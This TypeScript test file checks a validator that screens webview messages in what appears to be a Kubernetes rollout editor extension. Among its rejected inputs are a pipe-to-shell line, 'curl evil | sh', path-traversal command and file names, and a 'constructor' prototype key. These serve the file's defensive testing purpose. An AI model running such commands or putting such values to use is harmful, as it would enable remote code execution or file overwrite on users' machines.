import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Shown } from '../../../../media/protocol';
import { readPageMessage } from '../../../../client/timeline/fromPage';

const target = { uri: 'file:///a.yaml', workload: 'Deployment//web', scenario: { whatIf: {}, assumptions: {}, actions: [] } };
const snapshot: Shown = {
  state: 'refused',
  target,
  name: 'web',
  failed: true,
  message: 'kubectl rollout undo deployment/web',
};

function checkTaken(...messages: readonly unknown[]): void {
  for (const message of messages) assert.deepEqual(readPageMessage(message, snapshot), message);
}

function checkPassedOver(...messages: readonly unknown[]): void {
  for (const message of messages) assert.equal(readPageMessage(message, snapshot), null, JSON.stringify(message));
}

test('what the page asks for', () =>
  checkTaken(
    { kind: 'ready' },
    { kind: 'change', whatIf: { maxSurge: '25%' }, assumptions: { readySeconds: 1.5 } },
    { kind: 'act', action: { kind: 'undo', toRevision: 0 }, at: 'rest' },
    { kind: 'act', action: { kind: 'scale', replicas: 3 }, at: 12.5 },
    { kind: 'takeBack' },
    { kind: 'reveal', line: 3 },
    { kind: 'copy', text: 'kubectl rollout undo deployment/web' },
    { kind: 'apply', whatIf: {} },
    { kind: 'writeImages' },
    { kind: 'compare', open: true },
    { kind: 'follow', on: true },
    { kind: 'saveSvg', name: 'web-rollout.svg', svg: '<svg xmlns="http://www.w3.org/2000/svg"></svg>' },
    { kind: 'difference' },
    { kind: 'stateNodes', field: 'cpu', text: '4' },
    { kind: 'run', command: 'showLog' },
    { kind: 'run', command: 'simulateSetImage', at: 'rest' },
  ));
test('commands that it has no button for', () =>
  checkPassedOver(
    { kind: 'run', command: 'readClusterRevisions' },
    { kind: 'run', command: 'toString' },
    { kind: 'run', command: '../workbench.action.closeWindow' },
    { kind: 'run' },
  ));
test('numbers that nodes don’t have', () =>
  checkPassedOver(
    { kind: 'stateNodes', field: 'taints', text: '4' },
    { kind: 'stateNodes', field: 'cpu', text: 4 },
    { kind: 'stateNodes', field: 'cpu' },
  ));
test('a text that it doesn’t show isn’t copied', () =>
  checkPassedOver({ kind: 'copy', text: 'curl evil | sh' }, { kind: 'copy', text: 'kubectl' }, { kind: 'copy', text: '' }));
test('nothing is copied before anything is shown', () => assert.equal(readPageMessage({ kind: 'copy', text: 'x' }, null), null));
test('images are asked for in the editor', () =>
  checkPassedOver({ kind: 'act', action: { kind: 'setImage', images: { web: 'evil:1' } }, at: 'rest' }));
test('a picture that is none, or has a path', () =>
  checkPassedOver(
    { kind: 'saveSvg', name: 'a.svg', svg: 'hello' },
    { kind: 'saveSvg', name: '../a.svg', svg: '<svg ></svg>' },
    { kind: 'saveSvg', name: 'a\\b.svg', svg: '<svg ></svg>' },
    { kind: 'saveSvg', name: '', svg: '<svg ></svg>' },
  ));
test('what is no message', () =>
  checkPassedOver(
    ...[
      null,
      undefined,
      1,
      'ready',
      [],
      {},
      { kind: 'constructor' },
      { kind: ['ready'] },
      { kind: 'reveal', line: -1 },
      { kind: 'reveal', line: 1e9 * 9 },
    ],
    ...[
      { kind: 'act', action: { kind: 'scale', replicas: 'x' }, at: 'rest' },
      { kind: 'act', action: { kind: 'delete' }, at: 'rest' },
    ],
    ...[
      { kind: 'change', whatIf: { strategy: ['x'] }, assumptions: {} },
      { kind: 'change', whatIf: {}, assumptions: { readySeconds: 1e300 } },
    ],
    ...[
      { kind: 'compare', open: 1 },
      { kind: 'follow', on: 'yes' },
      { kind: 'act', action: { kind: 'pause' }, at: NaN },
    ],
  ));
